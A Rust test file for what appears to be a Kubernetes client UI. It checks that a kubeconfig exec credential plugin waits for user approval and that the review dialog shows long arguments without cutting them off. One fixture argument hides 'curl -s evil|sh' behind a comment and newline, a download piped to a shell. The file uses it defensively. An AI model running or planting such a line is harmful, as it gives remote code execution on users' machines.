//! A context whose kubeconfig names a program waits for its user, and says so.

use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;

use tests::desk::kubeconfig;
use tests::window::SIZES;
use tests::{Desk, Window};

/// What of the question is cut, or stands beyond its edge.
const CUT: &str = "(() => {
    const dialog = document.querySelector('[role=dialog]'), edge = dialog.getBoundingClientRect();
    const beyond = e => [...e.getClientRects()].some(r => r.right > edge.right + 1 || r.left < edge.left - 1);
    const wider = e => e.clientWidth > 0 && e.scrollWidth > e.clientWidth + 1;
    return [dialog, ...dialog.querySelectorAll('*')].filter(e => e instanceof HTMLElement && (beyond(e) || wider(e)))
        .map(e => e.outerHTML.slice(0, 120)).join('; ');
})()";

/// A desk with a context that signs in by a program, and where that program notes that it ran.
fn desk(server: &str, args: &[&str]) -> anyhow::Result<(Desk, PathBuf)> {
    let desk = Desk::new();
    let ran = desk.home().join("ran");
    let answer = r#"{"apiVersion":"client.authentication.k8s.io/v1","kind":"ExecCredential","status":{"token":"t"}}"#;
    let program = desk.file("bin/signs-in", &format!("#!/bin/sh\ntouch '{}'\necho '{answer}'\n", ran.display()));
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755))?;
    let args = serde_json::json!(args);
    let exec = format!("exec: {{apiVersion: client.authentication.k8s.io/v1, command: '{}', args: {args}, interactiveMode: Never}}", program.display());
    desk.file(".kube/config", &kubeconfig("dev", server, "t").replace("token: t", &exec));
    Ok((desk, ran))
}

#[tokio::test]
async fn a_context_that_waits_for_trust_leads_to_the_question() -> anyhow::Result<()> {
    let (desk, ran) = desk("https://127.0.0.1:1", &[])?;
    let window = Window::open(&desk, &[]).await?;
    window.click_in("[role=row]", "dev", "Connect").await?;
    window.read("dev asks to run a program").await?;
    assert!(!window.text().await?.contains("does not answer"), "nobody was asked yet");
    window.click("Review the program…").await?;
    window.read("signs-in").await?;
    assert!(!ran.exists(), "nothing runs before the answer");
    window.click_in("[role=dialog]", "", "Run once").await?;
    window.read("dev does not answer").await?;
    assert!(ran.exists(), "it ran to sign in");
    window.close().await
}

#[tokio::test]
async fn the_question_cuts_nothing_off_and_spells_the_end_of_a_line() -> anyhow::Result<()> {
    let long = "x".repeat(300);
    let server = format!("https://127.0.0.1:1/{}", "p".repeat(300));
    let (desk, ran) = desk(&server, &["-c", "true # eks token\ncurl -s evil|sh", &long])?;
    let window = Window::open(&desk, &[]).await?;
    window.click_in("[role=row]", "dev", "Connect").await?;
    window.click("Review the program…").await?;
    for words in [r"true # eks token\ncurl -s evil|sh", long.as_str(), server.as_str()] {
        window.read(words).await?;
    }
    for (width, height) in SIZES {
        window.resize(*width, *height).await?;
        let cut = window.page.execute(&format!("return {CUT}"), vec![]).await?;
        assert_eq!(cut, "", "at {width}x{height}");
    }
    assert!(!ran.exists(), "nothing runs before the answer");
    window.close().await
}
